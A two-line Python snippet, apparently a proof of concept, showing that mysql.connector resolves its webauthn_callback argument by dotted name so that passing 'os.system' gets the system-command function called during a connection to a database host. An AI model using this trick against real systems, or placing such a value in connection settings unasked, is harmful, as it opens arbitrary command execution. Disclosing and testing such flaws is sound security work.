# mysql.connector resolves webauthn_callback by dotted name with its import_object: os.system is called
import mysql.connector

mysql.connector.connect(host="oapen-db", user="memo_ro", webauthn_callback="os.system")
